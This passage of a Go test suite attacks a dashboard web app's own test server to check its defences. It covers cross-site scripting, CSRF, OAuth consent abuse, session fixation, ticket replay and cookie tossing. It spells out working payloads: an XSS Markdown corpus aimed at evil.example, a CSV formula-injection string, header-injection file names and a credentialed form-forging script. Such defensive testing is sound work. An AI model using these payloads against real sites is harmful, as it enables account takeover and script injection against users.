		{"GET", r.mcp + "/.well-known/oauth-protected-resource", "", ""},
		{"OPTIONS", r.mcp + "/token", "", ""},
		{"GET", r.at("a.b", "/"), "", ""},
	} {
		header := []string{"Content-Type", "application/x-www-form-urlencoded"}
		if m.site != "" {
			header = append(header, "Sec-Fetch-Site", m.site)
		}
		u, err := url.Parse(m.address)
		if err != nil {
			t.Fatal(err)
		}
		for _, cookies := range []map[string]string{r.cookies(t, r.bob, u.Scheme+"://"+u.Host), nil} {
			if m.address == r.app+"/sign-out" && m.method == "POST" && m.site != "cross-site" {
				continue
			}
			got := r.once(t, m.method, m.address, cookies, strings.NewReader(m.body), header...)
			check(m.method+" "+m.address, got.status, got.header, got.body)
			statuses[got.status] = true
		}
	}
	for _, status := range []int{200, 204, 302, 303, 400, 401, 403, 404, 405, 413, 422} {
		if !statuses[status] {
			t.Errorf("no answer was %d: is it still made?", status)
		}
	}
	// A dashboard is one for those who read it compressed, and one for others.
	cookies := r.cookies(t, r.ada, r.at("acme", ""))
	plain, packed := r.once(t, "GET", r.at("acme", "/notes"), cookies, nil, "Accept-Encoding", "identity"), r.once(t, "GET", r.at("acme", "/notes"), cookies, nil, "Accept-Encoding", "gzip")
	if plain.header.Get("Vary") != "Accept-Encoding" || packed.header.Get("Vary") != "Accept-Encoding" || plain.header.Get("ETag") == packed.header.Get("ETag") {
		t.Errorf("compressed or not: %v\n%v", plain.header, packed.header)
	}
	// A tag of a page that one could see opens nothing for others.
	r.sam.get(r.at("acme", "/notes"))
	for who, b := range map[string]*browser{"sam": r.sam, "mallory": r.mallory} {
		b.get(r.at("acme", "/notes"))
		for _, tag := range []string{plain.header.Get("ETag"), packed.header.Get("ETag"), "*"} {
			if got := r.once(t, "GET", r.at("acme", "/notes"), r.cookies(t, b, r.at("acme", "")), nil, "If-None-Match", tag); got.status != http.StatusNotFound {
				t.Errorf("%s asks whether the page is still %s: %d", who, tag, got.status)
			}
		}
	}
}

// hostile is Markdown that tries to run script in the workspace's origin.
const hostile = `# Ran <script>document.title="ran"</script>

<svg onload="document.title='ran'"><script>document.title='ran'</script></svg>
<img src=x onerror="document.title='ran'"> <iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>
<form action="https://evil.example/"><input name=password></form> <base href="https://evil.example/"> <meta http-equiv=refresh content="0;url=https://evil.example/">
<style>body{background:url(https://evil.example/)}</style> <link rel=stylesheet href=https://evil.example/>

[a](javascript:document.title='ran') [b](JaVaScRiPt&colon;document.title='ran') [c](data:text/html,<script>document.title='ran'</script>) [d](vbscript:x)
[e]( java	script:document.title='ran') <javascript:document.title='ran'> [f][g]

![h](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='document.title="ran"'><script>parent.document.title='ran'</script></svg>)
![i](https://evil.example/pixel.gif) ![j](//evil.example/pixel.gif)

[g]: javascript:document.title='ran'
`

// downloads publishes files that want to be pages, and pages that want to be
// programs.
func (r *realm) downloads(t *testing.T) {
	r.publish(t, "hostile", hostile)
	page := r.ada.get(r.at("acme", "/hostile"))
	doc, err := html.Parse(strings.NewReader(page.text))
	if err != nil || page.status != http.StatusOK {
		t.Fatal(page.status, err)
	}
	for n := range doc.Descendants() {
		switch n.Data {
		case "iframe", "object", "embed", "base", "img", "image", "link":
			if n.Type == html.ElementNode && attr(n, "rel") != "icon" && attr(n, "rel") != "canonical" {
				t.Errorf("hostile: <%s %v>", n.Data, n.Attr)
			}
		case "script":
			if n.Type == html.ElementNode && (n.FirstChild != nil || !strings.HasPrefix(attr(n, "src"), "/assets/")) {
				t.Errorf("hostile: a script of its own: %v", n.Attr)
			}
		case "meta":
			if strings.EqualFold(attr(n, "http-equiv"), "refresh") {
				t.Error("hostile: the page goes on by itself")
			}
		}
		for _, a := range n.Attr {
			scheme, _, _ := strings.Cut(strings.ToLower(strings.TrimSpace(a.Val)), ":")
			if strings.HasPrefix(a.Key, "on") || a.Key == "srcdoc" || a.Key == "style" || n.Data != "link" && (a.Key == "href" || a.Key == "src" || a.Key == "action") && slices.Contains([]string{"javascript", "data", "vbscript"}, scheme) {
				t.Errorf("hostile: <%s %s=%.60q>", n.Data, a.Key, a.Val)
			}
		}
	}

	for _, begins := range []string{"<html>", "\ufeff<html>", "\n\t <HTML>", "<!-- a -->\n<script>", "<!DOCTYPE html>", "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "<svg>", "\x00<script>", "<a,b\n", "%PDF-1.4,b\n", "=cmd|' /C calc'!A0,b\n"} {
		before := r.state(t)
		args, err := json.Marshal(map[string]any{"path": "begins/data.csv", "body": begins + "<script>document.title='ran'</script>,1\n"})
		if err != nil {
			t.Fatal(err)
		}
		if _, refused := r.call(t, r.token, "publish_dashboard", string(args)).text(t); refused {
			r.unchanged(t, "publishing "+begins, before)
			continue
		}
		file := r.ada.get(r.at("acme", "/begins/data.csv"))
		if file.header.Get("Content-Type") != "text/csv; charset=utf-8" || file.header.Get("X-Content-Type-Options") != "nosniff" || file.header.Get("Content-Disposition") != "attachment; filename=data.csv" {
			t.Errorf("a file that begins with %q: %d %v", begins, file.status, file.header)
		}
	}
	for _, path := range []string{"/data/data.csv", "/data/data.csv?x=.html", "/data/data.csv?panel=0&format=csv"} {
		file := r.ada.get(r.at("acme", path))
		if file.status == http.StatusNotFound {
			continue
		}
		if file.header.Get("Content-Type") != "text/csv; charset=utf-8" || file.header.Get("X-Content-Type-Options") != "nosniff" ||
			file.header.Get("Content-Disposition") != "attachment; filename=data.csv" || !strings.Contains(file.header.Get("Content-Security-Policy"), "sandbox;") {
			t.Errorf("%s: %d %v", path, file.status, file.header)
		}
	}
	for _, name := range []string{
		"x\r\nSet-Cookie: a=b.csv", "x\nX.csv", "x\".csv", "x;filename=y.html.csv", "x%0d%0aA:b.csv", "x\x00.csv", "x\u2028.csv", "x\u202efdp.csv", "../x.csv", "..\\x.csv", "a/b/x.csv", "x.html.csv/", "x.svg", "x.html", "X.CSV", ".csv", "x.csv ", "xé.csv", strings.Repeat("x", 300) + ".csv",
	} {
		before := r.state(t)
		args, err := json.Marshal(map[string]any{"path": "named/" + name, "body": "a,b\n1,2\n"})
		if err != nil {
			t.Fatal(err)
		}
		text, refused := r.call(t, r.token, "publish_dashboard", string(args)).text(t)
		if refused {
			r.unchanged(t, "publishing as "+name, before)
			continue
		}
		got := r.ada.get(r.at("acme", "/named/"+url.PathEscape(name)))
		kind, _, _ := strings.Cut(got.header.Get("Content-Type"), ";")
		if got.header.Get("A") != "" || got.header.Get("X") != "" || kind != "text/html" && !strings.HasPrefix(got.header.Get("Content-Disposition"), "attachment; filename=") {
			t.Errorf("published as %q: %s\n%d %v", name, text, got.status, got.header)
		}
	}
}

// ticket has b, who is signed in on the app, ask for a ticket to a workspace's
// host, and returns its address there and the cookie of the visit.
func (r *realm) ticket(t *testing.T, b *browser, label, path string) (address string, visit map[string]string) {
	t.Helper()
	start := r.once(t, "GET", r.at(label, path), nil, nil)
	for _, line := range start.header.Values("Set-Cookie") {
		c, err := http.ParseSetCookie(line)
		if err != nil {
			t.Fatal(err)
		}
		visit = map[string]string{c.Name: c.Value}
	}
	given := r.once(t, "GET", start.header.Get("Location"), r.cookies(t, b, r.app), nil)
	if address = given.header.Get("Location"); len(visit) != 1 || !strings.HasPrefix(address, r.at(label, "/.session?ticket=")) {
		t.Fatalf("no ticket: %d to %s, then %d to %s", start.status, start.header.Get("Location"), given.status, address)
	}
	return address, visit
}

// tickets shows bob's tickets where and when they do not count: nobody sees the
// dashboard by them. Twenty at once, and what is cut or changed, are tried in auth.
func (r *realm) tickets(t *testing.T) {
	const signedIn = `SELECT count(*) FROM host_session h JOIN web_session s ON s.hash = h.session_hash JOIN account a ON a.id = s.account_id WHERE a.email = 'bob@example.com'`
	count := func() (n int) {
		t.Helper()
		if err := r.db.QueryRow(t.Context(), signedIn).Scan(&n); err != nil {
			t.Fatal(err)
		}
		return n
	}
	// sees is whether what a browser gets at address opens the dashboard.
	sees := func(address string, cookies map[string]string) bool {
		t.Helper()
		got := r.once(t, "GET", address, cookies, nil)
		u, err := url.Parse(address)
		if err != nil {
			t.Fatal(err)
		}
		session := maps.Clone(cookies)
		if session == nil {
			session = map[string]string{}
		}
		for _, line := range got.header.Values("Set-Cookie") {
			if c, err := http.ParseSetCookie(line); err == nil {
				session[c.Name] = c.Value
			}
		}
		then := r.once(t, "GET", "https://"+u.Host+"/notes", session, nil)
		return strings.Contains(got.body+then.body, canary)
	}
	address, visit := r.ticket(t, r.bob, "acme", "/notes")
	if !sees(address, visit) || count() != 1 {
		t.Fatal("a good ticket opens nothing, so the rest proves nothing")
	}
	for name, attack := range map[string]func() bool{
		"used before":        func() bool { return sees(address, visit) },
		"used before, anew":  func() bool { _, v := r.ticket(t, r.bob, "acme", "/notes"); return sees(address, v) },
		"in another browser": func() bool { a, _ := r.ticket(t, r.bob, "acme", "/notes"); return sees(a, nil) },
		"in mallory's browser": func() bool {
			a, _ := r.ticket(t, r.bob, "acme", "/notes")
			_, hers := r.ticket(t, r.mallory, "acme", "/notes")
			return sees(a, hers)
		},
		"on another host": func() bool {
			a, v := r.ticket(t, r.bob, "lair", "/notes")
			return sees(strings.Replace(a, "//lair.", "//acme.", 1), v)
		},
		"on the app": func() bool {
			a, v := r.ticket(t, r.bob, "acme", "/notes")
			return sees(strings.Replace(a, "//acme.", "//app.", 1), v)
		},
		"as a cookie": func() bool {
			a, v := r.ticket(t, r.bob, "acme", "/notes")
			v["__Host-host"] = a[strings.Index(a, "=")+1:]
			return sees(r.at("acme", "/notes"), v)
		},
		"too late": func() bool {
			a, v := r.ticket(t, r.bob, "acme", "/notes")
			r.exec(t, `UPDATE host_ticket SET expires_at = now()`)
			return sees(a, v)
		},
	} {
		before := count()
		if attack() || count() != before {
			t.Errorf("a ticket %s: %d sessions instead of %d", name, count(), before)
		}
	}
	// What ends meanwhile.
	address, visit = r.ticket(t, r.bob, "acme", "/notes")
	r.admin(t, "member", "remove", "acme", "bob@example.com")
	if sees(address, visit) {
		t.Error("a ticket of a member who was removed opens the dashboard")
	}
	r.admin(t, "member", "add", "acme", "bob@example.com")
	r.bob = r.browser(t)
	r.bob.signIn(r.app+"/", "bob@example.com")
	address, visit = r.ticket(t, r.bob, "acme", "/notes")
	other, others := r.ticket(t, r.bob, "acme", "/notes")
	if !sees(other, others) {
		t.Error("a member who was added again sees nothing")
	}
	r.bob.get(r.app + "/account")
	r.bob.submit("/sign-out", nil)
	if sees(address, visit) || sees(r.at("acme", "/notes"), others) || count() != 0 {
		t.Errorf("after the sign-out there are %d sessions", count())
	}
	r.bob.signIn(r.app+"/", "bob@example.com")
}

// consents tries to have a client allowed by somebody who did not mean to.
func (r *realm) consents(t *testing.T) {
	same := []string{"Content-Type", "application/x-www-form-urlencoded", "Origin", r.app, "Sec-Fetch-Site", "same-origin"}
	grants := func() (all []string) {
		t.Helper()
		rows, _ := r.db.Query(t.Context(), `SELECT a.email || ' ' || coalesce(w.slug, '-') FROM oauth_grant g JOIN account a ON a.id = g.account_id LEFT JOIN workspace w ON w.id = g.workspace_id ORDER BY g.created_at`)
		all, err := pgx.CollectRows(rows, pgx.RowTo[string])
		if err != nil {
			t.Fatal(err)
		}
		return all
	}
	handle := func(b *browser) string {
		t.Helper()
		return r.request(t, b, r.register(t)).url.Query().Get("request")
	}
	answer := func(who *browser, values url.Values, header ...string) reply {
		t.Helper()
		if header == nil {
			header = same
		}
		return r.once(t, "POST", r.app+"/consent", r.cookies(t, who, r.app), strings.NewReader(values.Encode()), header...)
	}
	allow := func(handle, workspace string) url.Values {
		return url.Values{"request": {handle}, "workspace": {workspace}, "decision": {"allow"}}
	}
	hers := handle(r.ada)

	// For a workspace that one does not belong to, or that is not there.
	before := r.state(t)
	for who, b := range map[string]*browser{"sam": r.sam, "mallory": r.mallory} {
		for _, slug := range []string{"acme", "nowhere", "ACME", "acme\x00", "acme lair", "app"} {
			got := answer(b, allow(hers, slug))
			if got.status != http.StatusBadRequest || got.header.Get("Location") != "" || strings.Contains(got.body, "Acme") {
				t.Errorf("%s allows for %q: %d %s", who, slug, got.status, got.header.Get("Location"))
			}
		}
	}
	// From the client's own page, another site's, or the sibling's.
	for _, origin := range []string{"http://127.0.0.1:1", "https://evil.example", r.evil, r.at("acme", ""), r.mcp, "null"} {
		for _, site := range []string{"cross-site", "same-site", ""} {
			header := []string{"Content-Type", "application/x-www-form-urlencoded", "Origin", origin}
			if site != "" {
				header = append(header, "Sec-Fetch-Site", site)
			}
			for _, decision := range []string{"allow", "deny"} {
				values := allow(hers, "acme")
				values.Set("decision", decision)
				if got := answer(r.ada, values, header...); got.status != http.StatusForbidden || got.header.Get("Location") != "" {
					t.Errorf("%s from %s, %s: %d", decision, origin, site, got.status)
				}
			}
		}
	}
	// By a link, by what is missing, and by what is only guessed.
	for name, got := range map[string]reply{
		"a link":             r.once(t, "GET", r.app+"/consent?"+allow(hers, "acme").Encode(), r.cookies(t, r.ada, r.app), nil),
		"a form in the link": r.once(t, "POST", r.app+"/consent?"+allow(hers, "acme").Encode(), r.cookies(t, r.ada, r.app), nil, same...),
		"no workspace":       answer(r.ada, url.Values{"request": {hers}, "decision": {"allow"}}),
		"no decision":        answer(r.ada, url.Values{"request": {hers}, "workspace": {"acme"}}),
		"another decision":   answer(r.ada, url.Values{"request": {hers}, "workspace": {"acme"}, "decision": {"ALLOW"}}),
		"nobody":             r.once(t, "POST", r.app+"/consent", nil, strings.NewReader(allow(hers, "acme").Encode()), same...),
		"a shorter handle":   answer(r.ada, allow(hers[:len(hers)-1], "acme")),
		"no handle":          answer(r.ada, allow("", "acme")),
		"a handle's list":    answer(r.ada, url.Values{"request": {"x", hers}, "workspace": {"acme"}, "decision": {"allow"}}),
	} {
		if to := got.header.Get("Location"); to != "" && !strings.HasPrefix(to, "/consent?request=") {
			t.Errorf("%s: %d to %s", name, got.status, to)
		}
	}
	r.unchanged(t, "what is not an answer", before)

	// Mallory, who got hold of ada's request, can only give her own workspace to
	// ada's client; the code goes to ada's client, whose secret she lacks.
	stolen := handle(r.ada)
	had := grants()
	if got := answer(r.mallory, allow(stolen, "lair")); !strings.HasPrefix(got.header.Get("Location"), "http://127.0.0.1:1/callback?code=") {
		t.Errorf("mallory allows: %d to %s", got.status, got.header.Get("Location"))
	}
	if now := grants(); !slices.Equal(now, append(had, "mallory@example.com lair")) {
		t.Errorf("grants %v, then %v", had, now)
	}
	if got := answer(r.ada, allow(stolen, "acme")); got.status != http.StatusBadRequest || len(grants()) != len(had)+1 {
		t.Errorf("ada afterwards: %d, %d grants", got.status, len(grants()))
	}

	// What the form says of the request is not listened to; and it counts once.
	values := allow(hers, "acme")
	maps.Copy(values, url.Values{
		"redirect_uri": {"https://evil.example/"}, "client_id": {"00000000-0000-0000-0000-000000000000"}, "state": {"evil"}, "scope": {"everything"},
		"code_challenge": {strings.Repeat("A", 43)}, "account_id": {"00000000-0000-0000-0000-000000000000"}, "resource": {"https://evil.example/"},
	})
	got := r.once(t, "POST", r.app+"/consent?redirect_uri=https://evil.example/&state=evil", r.cookies(t, r.ada, r.app), strings.NewReader(values.Encode()), same...)
	to, err := url.Parse(got.header.Get("Location"))
	if err != nil || to.Host != "127.0.0.1:1" || to.Path != "/callback" || to.Query().Get("state") != "s" || to.Query().Get("iss") != r.mcp || to.Query().Get("code") == "" {
		t.Fatalf("%d to %s", got.status, to)
	}
	before = r.state(t)
	for _, decision := range []string{"allow", "deny", ""} {
		values := allow(hers, "acme")
		values.Set("decision", decision)
		for who, b := range map[string]*browser{"ada": r.ada, "bob": r.bob, "mallory": r.mallory} {
			if got := answer(b, values); got.status != http.StatusBadRequest || got.header.Get("Location") != "" {
				t.Errorf("%s answers once more, %s: %d to %s", who, decision, got.status, got.header.Get("Location"))
			}
		}
	}
	r.unchanged(t, "answering once more", before)
}

// sessions ends ada's in every way, and tries what she had before.
func (r *realm) sessions(t *testing.T) {
	hosts := []string{r.app, r.at("acme", ""), r.at("lair", "")}
	open := func(b *browser) {
		t.Helper()
		for _, label := range []string{"acme", "lair"} {
			b.get(r.at(label, "/notes"))
		}
		if !strings.Contains(b.get(r.at("acme", "/notes")).text, canary) {
			t.Fatal("ada sees nothing")
		}
	}
	jar := func(b *browser) map[string]map[string]string {
		t.Helper()
		all := map[string]map[string]string{}
		for _, origin := range hosts {
			all[origin] = r.cookies(t, b, origin)
		}
		return all
	}
	// dead fails the test if any of the cookies opens any host.
	dead := func(what string, jar map[string]map[string]string) {
		t.Helper()
		for from, cookies := range jar {
			for _, origin := range hosts {
				for _, path := range []string{"/account", "/notes", "/w/acme/members", "/"} {
					got := r.once(t, "GET", origin+path, cookies, nil)
					if strings.Contains(got.body, "ada@example.com") || strings.Contains(got.body, canary) {
						t.Errorf("%s: cookies of %s open %s%s", what, from, origin, path)
					}
				}
			}
		}
	}
	ada := r.browser(t)
	// Fixation: mallory's session, put in the place of hers, is not what she gets.
	planted := r.cookies(t, r.mallory, r.app)["__Host-session"]
	app, err := url.Parse(r.app)
	if err != nil {
		t.Fatal(err)
	}
	other := r.browser(t) // mallory's second one, which she gives away
	other.signIn(r.app+"/", "mallory@example.com")
	given := r.cookies(t, other, r.app)["__Host-session"]
	ada.client.Jar.SetCookies(app, []*http.Cookie{{Name: "__Host-session", Value: given, Path: "/"}})
	ada.signIn(r.app+"/sign-in", "ada@example.com")
	if now := r.cookies(t, ada, r.app)["__Host-session"]; now == "" || now == given || now == planted {
		t.Error("the session is one that somebody knew before")
	}
	if got := r.once(t, "GET", r.app+"/account", map[string]string{"__Host-session": given}, nil); got.status != http.StatusFound {
		t.Errorf("the planted session after ada's sign-in: %d", got.status)
	}

	open(ada)
	first := jar(ada)
	ada.signIn(r.app+"/sign-in", "ada@example.com")
	dead("after signing in once more", first)
	open(ada)
	second := jar(ada)
	ada.get(r.app + "/account")
	ada.submit("/sign-out", nil)
	dead("after the sign-out", second)
	if len(r.cookies(t, ada, r.app)) > 3 || r.cookies(t, ada, r.app)["__Host-session"] != "" {
		t.Errorf("cookies after the sign-out: %v", slices.Collect(maps.Keys(r.cookies(t, ada, r.app))))
	}

	ada.signIn(r.app+"/", "ada@example.com")
	open(ada)
	open(r.ada)
	here, there := jar(ada), jar(r.ada)
	ada.get(r.app + "/account")
	ada.submit("/account/sessions/end-all", nil)
	dead("after signing out everywhere, here", here)
	dead("after signing out everywhere, there", there)
	var n int
	if err := r.db.QueryRow(t.Context(), `SELECT count(*) FROM web_session s JOIN account a ON a.id = s.account_id WHERE a.email = 'ada@example.com'`).Scan(&n); err != nil || n != 0 {
		t.Errorf("%d sessions of ada's are left, %v", n, err)
	}
	if got := r.mallory.get(r.app + "/account"); !strings.Contains(got.text, "mallory@example.com") {
		t.Error("mallory is signed out too")
	}
}

// tab is a tab of a real browser that takes the proxy's certificate for good.
func (r *realm) tab(t *testing.T) *browsertest.Tab {
	t.Helper()
	b := browsertest.Open(t)
	b.Do(chromedp.Func(func(ctx context.Context, target *chromedp.Target) error {
		return target.Call(ctx, "Security.setIgnoreCertificateErrors", map[string]bool{"ignore": true}, nil)
	}))
	return b
}

// enter signs somebody in, in a real browser.
func (r *realm) enter(b *browsertest.Tab, email string) {
	b.Helper()
	b.Visit(r.app + "/sign-in?return_to=/account")
	b.Follow(chromedp.SendKeys(`#email`, email+"\r"))
	if !strings.Contains(b.Text("body"), email) {
		b.Fatalf("%s is not signed in at %s", email, b.Address())
	}
}

// A lureForm is a form of the app, as another page would send it.
type lureForm struct {
	Action string            `json:"action"`
	Fields map[string]string `json:"fields"`
}

// forms are those that ada's pages have, filled in.
func (r *realm) forms(t *testing.T) []lureForm {
	t.Helper()
	pages := []string{"/account", "/workspaces/new", "/clients", "/w/acme/members", "/w/acme/settings", "/w/acme/uploads", "/w/acme/connections/new?kind=postgres", "/w/acme/d/notes", "/w/acme/d/notes/delete"}
	pages = append(pages, strings.TrimPrefix(r.request(t, r.ada, r.register(t)).url.String(), r.app))
	values := map[string]string{
		"name": "Mine", "slug": "acme", "email": "mallory@example.com", "role": "owner", "workspace": "acme", "decision": "allow", "theme": "dark", "timezone": "Asia/Tokyo",
		"schedule": "1h", "host": "db.evil.example", "user": "x", "label": "Mine", "confirm": "notes",
	}
	var all []lureForm
	seen := map[string]bool{} // by address without ids
	id := regexp.MustCompile(`[0-9a-f-]{36}`)
	for _, path := range pages {
		p := r.ada.get(r.app + path)
		doc, err := html.Parse(strings.NewReader(p.text))
		if err != nil || p.status != http.StatusOK {
			t.Fatal(path, p.status, err)
		}
		for form := range doc.Descendants() {
			if form.Data != "form" || !strings.EqualFold(attr(form, "method"), "post") || seen[id.ReplaceAllString(attr(form, "action"), "")] {
				continue
			}
			seen[id.ReplaceAllString(attr(form, "action"), "")] = true
			f := lureForm{Action: r.app + attr(form, "action"), Fields: map[string]string{}}
			for field := range form.Descendants() {
				if name := attr(field, "name"); name != "" {
					f.Fields[name] = attr(field, "value")
					if values[name] != "" {
						f.Fields[name] = values[name]
					}
				}
			}
			all = append(all, f)
		}
	}
	if len(all) < 15 {
		t.Fatalf("only %d forms were found: %v", len(all), all)
	}
	return all
}

// forge sends every form in every way that a page can, and ends when all have
// been answered.
const forge = `<!doctype html><title>lure</title><script>
const forms = FORMS;
const frame = (make) => new Promise((done) => {
	const f = document.createElement("iframe");
	setTimeout(done, 3000);
	let loads = 0;
	f.onload = () => { if (++loads == 2) { f.remove(); done(); } };
	make(f);
});
const escaped = (s) => s.replace(/&/g, "&amp;").replace(/"/g, "&quot;").replace(/</g, "&lt;");
const inputs = (f) => Object.entries(f.fields).map(([k, v]) => '<input type=hidden name="' + escaped(k) + '" value="' + escaped(v) + '">').join("");
async function attack(f) {
	const body = new URLSearchParams(f.fields), parts = new FormData();
	for (const [k, v] of Object.entries(f.fields)) parts.append(k, v);
	parts.append("file", new Blob(["n\n1\n"]), "attack.csv");
	const tries = [
		() => fetch(f.action, {method: "POST", credentials: "include", mode: "no-cors", body}),
		() => fetch(f.action, {method: "POST", credentials: "include", mode: "cors", body}),
		() => fetch(f.action, {method: "POST", credentials: "include", mode: "no-cors", body: body.toString()}),
		() => fetch(f.action, {method: "POST", credentials: "include", mode: "no-cors", body: parts}),
		() => fetch(f.action, {method: "POST", credentials: "include", mode: "cors", headers: {"Content-Type": "application/json"}, body: JSON.stringify(f.fields)}),
		() => fetch(f.action, {method: "POST", credentials: "include", mode: "no-cors", referrerPolicy: "no-referrer", body}),
		() => fetch(f.action + "?" + body, {credentials: "include", mode: "no-cors"}),
		() => navigator.sendBeacon(f.action, body),
	];
	await Promise.allSettled(tries.map(async (t) => t()));
	await frame((i) => {
		i.name = "target"; i.srcdoc = "<p>";
		document.body.append(i);
		i.addEventListener("load", () => {
			const form = document.createElement("form");
			form.method = "post"; form.action = f.action; form.target = "target"; form.innerHTML = inputs(f);
			document.body.append(form); form.submit(); form.remove();
		}, {once: true});
	});
	await frame((i) => { // its origin is null
		i.sandbox = "allow-scripts allow-forms";
		i.srcdoc = '<form method=post action="' + escaped(f.action) + '">' + inputs(f) + "</form><script>HTMLFormElement.prototype.submit.call(document.forms[0])<" + "/script>";
		document.body.append(i);
	});
}
</script><body>`

// forgeries has ada open mallory's page, which sends all of the app's forms with
// her cookies.
func (r *realm) forgeries(t *testing.T) {
	b := r.tab(t)
	b.Expect("Failed to load resource")
	b.Expect("CORS policy")
	b.Expect("frame")
	r.enter(b, "ada@example.com")
	forms := r.forms(t)
	list, err := json.Marshal(forms)
	if err != nil {
		t.Fatal(err)
	}
	b.Visit(r.lure("/forge", strings.Replace(forge, "FORMS", string(list), 1)))
	before := r.state(t)
	r.visited()
	browsertest.Eval[bool](b, `Promise.all(forms.map(attack)).then(() => true)`)
	came := r.visited()
	for _, f := range forms {
		path := strings.TrimPrefix(f.Action, r.app)
		if !slices.Contains(came, "POST "+path+" "+r.evil) { // from a sandboxed frame browsers send no session
			t.Errorf("%s was not sent from evil with ada's session: the attack was none", path)
		}
	}
	r.unchanged(t, "mallory's page", before)
	// The same from the app itself does what it says.
	b.Visit(r.app + "/account")
	browsertest.Eval[int](b, `fetch("/account/timezone", {method: "POST", body: new URLSearchParams({timezone: "Asia/Tokyo"})}).then((r) => r.status)`)
	if now := r.state(t); now["account"] == before["account"] {
		t.Error("a form of the app changes nothing, so the attacks prove nothing")
	}
}

// tossed has mallory's page plant cookies for the whole domain, before ada signs
// in and after: she is never in mallory's account, and stays in her own.
func (r *realm) tossed(t *testing.T) {
	b := r.tab(t)
	b.Expect("400")
	hers := r.cookies(t, r.mallory, r.app)["__Host-session"]
	// Mallory's own sign-in, which waits for the browser that it began in.
	m := r.browser(t)
	p := m.get(r.app + "/sign-in")
	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, p.url.String(), strings.NewReader("email=mallory@example.com"))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	callback := send(t, &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}, req).header.Get("Location")
	ticket, visit := r.ticket(t, r.mallory, "lair", "/notes")
	r.mallory.get(r.at("lair", "/notes"))

	planted := map[string]string{
		"session": hers, "sign-in": r.cookies(t, m, r.app)["__Host-sign-in"], "visit": visit["__Host-visit"], "host": r.cookies(t, r.mallory, r.at("lair", ""))["__Host-host"],
		"flash": base64.RawURLEncoding.EncodeToString([]byte("Call 0900")), "theme": "dark", "workspace": "lair",
	}
	_, port, err := net.SplitHostPort(r.domain)
	if err != nil {
		t.Fatal(err)
	}
	var cookies []string
	for name, value := range planted {
		if value == "" {
			t.Fatalf("there is no cookie %s to plant", name)
		}
		for _, as := range []string{"__Host-" + name, "__HOST-" + name, "__Secure-" + name, name, name + "_" + port, "=__Host-" + name, "\u2000__Host-" + name, " __Host-" + name} {
			for _, path := range []string{"/", "/account"} { // not so many that browsers forget others, ada's among them
				cookies = append(cookies, as+"="+value+"; Domain=dash.localhost; Secure; Path="+path)
			}
			cookies = append(cookies, as+"="+value+"; Secure; Path=/", as+"="+value+"; Domain=localhost; Secure; Path=/", as+"="+value+"; Domain=app.dash.localhost; Secure; Path=/")
		}
	}
	script, err := json.Marshal(cookies)
	if err != nil {
		t.Fatal(err)
	}
	lure := r.lure("/toss", `<!doctype html><title>lure</title><script>for (const c of `+string(script)+`) document.cookie = c</script>`)
	toss := func() {
		t.Helper()
		for plants := range slices.Chunk(cookies, 40) {
			r.plant(plants...)
			b.Visit(lure)
		}
		r.plant()
	}
	// shows opens an address, which must show nothing of mallory's.
	shows := func(address, want string) {
		t.Helper()
		b.Visit(address)
		text := b.Text("body")
		if strings.Contains(text, "mallory") || strings.Contains(text, "0900") || strings.Contains(text, "Lair") || want != "" && !strings.Contains(text, want) {
			t.Errorf("%s shows, and not %s:\n%s", address, want, text)
		}
	}
	toss()
	if n := browsertest.Eval[int](b, `document.cookie.split(";").length`); n < 5 {
		t.Errorf("only %d cookies were planted: the attack was none", n)
	}
	shows(r.app+"/", "Sign in")
	if theme := browsertest.Eval[string](b, `document.documentElement.dataset.theme`); theme != "auto" {
		t.Errorf("the theme is %s", theme)
	}
	shows(callback, "This sign-in has ended")
	shows(ticket, "This link has ended")
	shows(r.app+"/account", "")
	if strings.HasPrefix(b.Address(), r.app+"/account") {
		t.Error("nobody has signed in, and the account page opens")
	}

	r.enter(b, "ada@example.com")
	shows(r.at("acme", "/notes"), canary)
	toss()
	shows(r.app+"/account", "ada@example.com")
	shows(r.app+"/", "Acme")
	shows(r.at("acme", "/notes"), canary)
	shows(r.app+"/account", "ada@example.com")
}

// On this machine's own address there is no TLS and so no prefix that keeps
// cookies from being planted, but browsers let no host below localhost set one for
// all of them.
func TestCookiesOfLocalhost(t *testing.T) {
	t.Parallel()
	s := startSite(t)
	mallory := s.browser(t)
	mallory.signIn(s.app+"/", "mallory@example.com")
	app, err := url.Parse(s.app)
	if err != nil {
		t.Fatal(err)
	}
	var cookies []string
	for _, c := range mallory.client.Jar.Cookies(app) {
		cookies = append(cookies, c.Name+"="+c.Value+"; Domain=localhost", c.Name+"="+c.Value+"; Domain=.localhost; Path=/account", c.Name+"="+c.Value)
	}
	if !strings.HasPrefix(strings.Join(cookies, "\n"), "session_") && !strings.Contains(strings.Join(cookies, "\n"), "\nsession_") {
		t.Fatalf("no session to plant: %s", cookies)
	}
	sibling := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		for _, c := range cookies {
			w.Header().Add("Set-Cookie", c)
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, "<!doctype html><title>lure</title><script>for (const c of %s) document.cookie = c</script>", must(json.Marshal(cookies)))
	}))
	t.Cleanup(sibling.Close)
	b := browsertest.Open(t)
	lure := strings.Replace(sibling.URL, "127.0.0.1", "evil.localhost", 1)
	b.Visit(lure)
	if n := browsertest.Eval[int](b, `document.cookie.split(";").length`); n < 2 {
		t.Errorf("only %d cookies were planted: the attack was none", n)
	}
	b.Visit(s.app + "/")
	if text := b.Text("body"); strings.Contains(text, "mallory") || !strings.Contains(text, "Sign in") {
		t.Errorf("signed out, the app shows\n%s", text)
	}
	b.Visit(s.app + "/sign-in?return_to=/account")
	b.Follow(chromedp.SendKeys(`#email`, "ada@example.com\r"))
	b.Visit(lure)
	b.Visit(s.app + "/account")
	if text := b.Text("body"); strings.Contains(text, "mallory") || !strings.Contains(text, "ada@example.com") {
		t.Errorf("signed in as ada, the app shows\n%s", text)
	}
}

func must(b []byte, err error) []byte {
	if err != nil {
		panic(err) // a list of strings
	}
	return b
}

// framed has mallory's page show ada's pages in frames.
func (r *realm) framed(t *testing.T) {
	b := r.tab(t)
	b.Expect("frame")
	b.Expect("Failed to load resource")
